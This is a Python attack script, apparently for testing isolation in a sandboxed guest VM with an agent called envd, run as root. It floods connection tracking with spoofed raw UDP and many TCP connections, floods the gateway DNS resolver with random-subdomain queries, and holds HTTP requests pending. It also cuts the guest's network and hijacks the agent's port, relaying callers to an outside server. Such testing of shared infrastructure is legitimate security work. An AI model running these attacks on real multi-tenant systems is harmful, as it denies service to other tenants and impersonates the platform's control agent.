"""What root of a guest does to take from others what all share: attack.py NAME ARGUMENTS... Prints what it did."""

import ctypes
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time

GUEST, GATEWAY = "169.254.0.21", "169.254.0.22"
MINE, THEIRS = bytes.fromhex("02fc00000005"), bytes.fromhex("02fc00000006")
AGENT_PORT = 49983
CLONE_NEWNET = 0x40000000


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def connections(address, port, flows):
    """Flows of UDP past the kernel's own sockets, each from a port of its own, and open connections of TCP."""
    port, flows = int(port), int(flows)
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind(("eth0", 0))
    ends = socket.inet_aton(GUEST) + socket.inet_aton(address)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 29, 7, 0, 64, 17, 0) + ends
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    sent = 0
    for number in range(flows):
        data = struct.pack("!HHHHc", 1024 + number % 60000, port + number // 60000, 9, 0, b"x")
        try:
            link.send(THEIRS + MINE + b"\x08\x00" + header + data)
            sent += 1
        except OSError:
            time.sleep(0.001)
    held = []
    for _ in range(900):
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex((address, port))
        held.append(one)
    time.sleep(0.5)
    print(f"{sent} flows over UDP, {len(held)} connections begun")


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def questions(domain, seconds):
    """Questions for names that nobody has asked for before, by UDP and by connections of TCP for one question each."""
    end = time.monotonic() + float(seconds)
    asked = [0, 0]
    random_name = lambda: f"{random.getrandbits(64):x}.{domain}"

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            link.connect((GATEWAY, 53))
            link.setblocking(False)
            while time.monotonic() < end:
                try:
                    link.send(question(random_name()))
                    asked[0] += 1
                except OSError:
                    time.sleep(0.001)

    def tcp():
        while time.monotonic() < end:
            try:
                with socket.create_connection((GATEWAY, 53), 2) as link:
                    message = question(random_name())
                    link.sendall(struct.pack("!H", len(message)) + message)
                    asked[1] += 1
                    link.recv(512)
            except OSError:
                pass

    threads = [threading.Thread(target=work) for work in (udp, tcp, tcp)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(f"{asked[0]} questions over UDP, {asked[1]} over TCP")


def pending(address, name, count, mark):
    """Requests over connections that the server has not taken yet; says when they are begun, and how they end."""
    held = []
    for _ in range(int(count)):
        link = socket.create_connection((address, 80), 5)
        link.sendall(f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        held.append(link)
    open(mark, "w").close()
    answered = 0
    for link in held:
        link.settimeout(20)
        try:
            answered += bool(link.recv(100))
        except OSError:
            pass
    print(answered)


def detach():
    """Goes on in a process that the caller does not wait for, after its answer has left the guest."""
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    quiet = os.open(os.devnull, os.O_RDWR)
    for stream in range(3):
        os.dup2(quiet, stream)
    time.sleep(1)


def ip(*words):
    subprocess.run(["ip", *words], check=True)


def mute():
    """Takes the network away, from envd as from everything else."""
    detach()
    ip("link", "set", "eth0", "down")


def replace(address, port):
    """Moves the network into a namespace where envd is not, and has a server of the internet answer in its place."""
    detach()
    ip("netns", "add", "own")
    ip("link", "set", "eth0", "netns", "own")
    for words in (["addr", "add", f"{GUEST}/30", "dev", "eth0"], ["link", "set", "lo", "up"],
                  ["link", "set", "eth0", "up"], ["route", "add", "default", "via", GATEWAY]):
        ip("-n", "own", *words)
    with open("/run/netns/own") as own:
        ctypes.CDLL(None).setns(own.fileno(), CLONE_NEWNET)
    listener = socket.create_server((GUEST, AGENT_PORT), backlog=128)
    while True:
        caller, _ = listener.accept()
        threading.Thread(target=relay, args=(caller, (address, int(port))), daemon=True).start()


def relay(caller, server):
    with caller, socket.create_connection(server) as answering:
        there = threading.Thread(target=copy, args=(caller, answering), daemon=True)
        there.start()
        copy(answering, caller)
        there.join()


def copy(source, target):
    try:
        while data := source.recv(65536):
            target.sendall(data)
        target.shutdown(socket.SHUT_WR)
    except OSError:
        for end in (source, target):
            try:
                end.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


globals()[sys.argv[1]](*sys.argv[2:])
